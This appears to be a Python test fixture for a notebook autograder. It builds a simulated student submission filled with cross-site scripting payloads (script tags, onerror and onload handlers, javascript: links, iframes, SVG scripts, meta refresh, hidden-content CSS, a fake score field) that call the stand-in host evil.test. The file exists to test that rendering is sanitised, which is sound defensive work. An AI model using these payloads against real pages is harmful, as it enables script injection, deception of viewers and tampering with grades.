"""A student who wants to run on other people's screens: HTML and JavaScript in all that a page may show of a notebook.

Whatever runs sets `pwned` in the page or asks the host `evil.test`. `hand_in` writes the submission.
"""

import json
from pathlib import Path

from nbformat import NotebookNode
from nbformat.v4 import new_code_cell, new_markdown_cell

from autograder.notebooks import grade_id
from autograder.simulate.learners import fill

NAME = "eve <img src=x onerror=top.pwned=1>"
HOST = "http://evil.test"
PWN = f"top.pwned=1;fetch('{HOST}/ran')"
PIXEL = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="

# Each line by itself runs, sends, hides or leads away, where a page takes it for HTML.
LINES = [
    f"<script>{PWN}</script>",
    f'<img src="x" onerror="{PWN}">',
    f'<svg onload="{PWN}"><script>{PWN}</script></svg>',
    f'<iframe srcdoc="<script>{PWN}</script>"></iframe>',
    f'<iframe src="javascript:{PWN}"></iframe>',
    f'<object data="data:text/html,<script>{PWN}</script>"></object>',
    f'<details open ontoggle="{PWN}"><summary>more</summary></details>',
    f'<input autofocus onfocus="{PWN}">',
    f'<a href="javascript:{PWN}">my figure</a>',
    f'<a href="JaVa&#10;ScRiPt:{PWN}">my other figure</a>',
    f'<math><mtext><a xlink:href="javascript:{PWN}">a formula</a></mtext></math>',
    f'<div style="animation:x" onanimationstart="{PWN}">',
    f'<form action="{HOST}/form"><button class="full-credit btn">All my points</button></form>',
    "<style>* { visibility: hidden !important } main, section, #notebook, .panel { display: none !important }</style>",
    '<div class="navbar-fixed-top modal-backdrop" style="position:fixed;inset:0;z-index:99;background:#fff">all points'
    "</div>",
    '<input class="score tabbable" id="answer_1-test" value="100"><div id="notebook" class="hidden"></div>',
    f'<img src="{HOST}/pixel.png" alt="a pixel"><link rel="stylesheet" href="{HOST}/style.css">',
    f'<video src="{HOST}/film" autoplay></video><embed src="{HOST}/embed">',
    f'<base href="{HOST}/">',
    f'<meta http-equiv="refresh" content="0;url={HOST}/elsewhere">',
]
HTML = "\n".join(
    ["</code></pre></details></td></table></section></div></textarea></title></style></script>-->", *LINES]
)
MARKDOWN = f"""# <img src=x onerror="{PWN}"> My own heading

| a table | of mine |
|---|---|
| 1 | **2** |

[a link](javascript:{PWN}) ![a picture]({HOST}/picture.png) [the lesson](https://example.org/) [my plot](plot.html)
[my drawing](plot.svg)

$\\href{{javascript:{PWN}}}{{x}}$ <b onmouseover="{PWN}">bold</b>

```python
"<script>{PWN}</script>"
```

{HTML}
"""
DISPLAY = f"""
from IPython.display import display
HTML = {HTML!r}
MARKDOWN = {MARKDOWN!r}
def show(kind, text, **metadata):
    display({{kind: text, "text/plain": "plain " + HTML}}, raw=True, metadata={{kind: metadata}})
show("text/html", HTML)
show("text/html", "<table><tr><th>word</th></tr><tr><td>value 42</td></tr></table>")
show("text/html", HTML, isolated=True)
show("text/markdown", MARKDOWN)
show("text/latex", MARKDOWN)
show("application/javascript", {PWN!r})
show("image/svg+xml", HTML)
show("image/png", {PIXEL!r}, width={f"1 onerror={PWN}"!r}, alt={f'" onerror="{PWN}'!r})
show("image/png", {PIXEL!r}, width=50, alt="one pixel")
show("image/png", {f'x" onerror="{PWN}'!r})
show("application/vnd.jupyter.widget-view+json", {{"model_id": "</script>" + HTML, "version_major": 2}})
show("application/vnd.jupyter.error+json", {{"message": HTML}})
show("text/vnd.mermaid", HTML)
display({{HTML: HTML, "text/plain": "a type of my own"}}, raw=True)
print(HTML)
print("\\x1b[31m" + HTML + "\\x1b]8;;javascript:top.pwned=1\\x07here\\x1b]8;;\\x07")
"""
ANSWERS = {
    "answer_1": f"{DISPLAY}\nanswer_1 = 'b'\n",
    "answer_2": f"answer_2 = 'a'\nraise type({LINES[1]!r}, (Exception,), {{}})({HTML!r})\n",
    "answer_3": f"# {HTML!r}\nanswer_3 = type({LINES[1]!r}, (), {{}})()\n",
    "answer_4": f"answer_4 = {LINES[1]!r}\n",
}


def hand_in(folder: Path, released: NotebookNode, answers: dict[str, str]) -> None:
    """Write the submission.

    Args:
        folder: where it goes; made here.
        released: the quiz that students are given.
        answers: to the questions that no attack is made of.
    """
    notebook = fill(released, answers | ANSWERS)
    first = next(index for index, cell in enumerate(notebook.cells) if grade_id(cell) == "answer_1")
    drawn = {"drawn.png": {"image/png": PIXEL, f'"><script>{PWN}</script>': "x"}}
    attached = new_markdown_cell("I have *drawn* ![it](attachment:drawn.png)", attachments=drawn)
    own = [new_markdown_cell(MARKDOWN), new_code_cell(DISPLAY), new_markdown_cell(HTML), attached]
    for cell in own:
        cell.metadata = {"tags": ["x navbar-fixed-top hidden", HTML], "magics_language": HTML}
    notebook.cells[first:first] = own
    notebook.metadata["title"] = HTML
    notebook.metadata["language_info"] = {"name": HTML, "pygments_lexer": HTML}
    state = {"state": {}, "version_major": 2, "version_minor": 0, "</script>": HTML}
    notebook.metadata["widgets"] = {"application/vnd.jupyter.widget-state+json": state}
    folder.mkdir(parents=True)
    (folder / "quiz.ipynb").write_text(json.dumps(notebook), encoding="utf-8")
    (folder / "plot.html").write_text(f"<!DOCTYPE html><title>plot</title>{HTML}", encoding="utf-8")
    svg = f'<svg xmlns="http://www.w3.org/2000/svg"><script>{PWN}</script></svg>'
    (folder / "plot.svg").write_text(svg, encoding="utf-8")
    (folder / f'"><img src=x onerror="{PWN.split(";")[0]}">.png').write_bytes(b"")
